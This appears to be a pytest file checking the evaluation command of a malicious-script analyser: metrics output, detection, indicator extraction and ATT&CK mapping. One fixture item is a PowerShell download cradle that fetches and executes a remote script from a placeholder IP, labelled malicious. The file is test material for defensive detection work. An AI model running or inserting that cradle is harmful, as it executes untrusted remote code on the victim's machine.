"""`wingman eval scripts`: a table, then one JSON line of metrics; per-item details on request."""

from __future__ import annotations

import io
import json
from pathlib import Path

from wingman.cli import main

ITEMS = [
    {
        "id": "own:cradle",
        "language": "powershell",
        "label": "malicious",
        "text": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.8/a.ps1')",
        "expected_iocs": {"urls": ["http://198.51.100.8/a.ps1"], "ips": ["198.51.100.8"]},
        "attack_techniques": ["T1059.001"],
    },
    {
        "id": "own:course",
        "language": "python",
        "label": "benign",
        "text": "def mean(xs):\n    return sum(xs) / len(xs)\n\n# see https://example.org/\u2028\n",
        "expected_iocs": {"domains": ["example.org"]},
    },
]


def run(tmp_path: Path, *extra: str) -> tuple[int, list[str]]:
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text("\n".join(json.dumps(i, ensure_ascii=False) for i in ITEMS) + "\n", "utf-8")
    out = io.StringIO()
    status = main(["eval", "scripts", str(corpus), *extra], stdout=out)
    return status, out.getvalue().splitlines()


def test_prints_a_table_then_the_metrics_as_the_last_line(tmp_path: Path) -> None:
    status, lines = run(tmp_path)
    assert status == 0
    assert lines[0] == "AnalyzeScript evaluation"
    assert any(line.startswith("overall") for line in lines)
    metrics = json.loads(lines[-1])
    assert metrics["items"] == 2
    assert metrics["errors"] == 0
    assert metrics["recall"] == 1.0
    assert metrics["fpr"] == 0.0
    assert metrics["roc_auc"] == 1.0
    assert metrics["ioc_recall"] == 1.0
    assert metrics["attack_recall"] == 1.0
    assert metrics["p95_ms_per_kb"] is not None


def test_details_name_every_item_with_what_was_found(tmp_path: Path) -> None:
    details = tmp_path / "details.jsonl"
    status, _ = run(tmp_path, "--details", str(details))
    assert status == 0
    rows = [json.loads(line) for line in details.read_text("utf-8").splitlines()]
    assert [row["id"] for row in rows] == ["own:cradle", "own:course"]
    assert rows[0]["flagged"] is True
    assert "T1059.001" in rows[0]["attack_found"]
    assert rows[1]["flagged"] is False
    assert rows[1]["missed_iocs"] == []
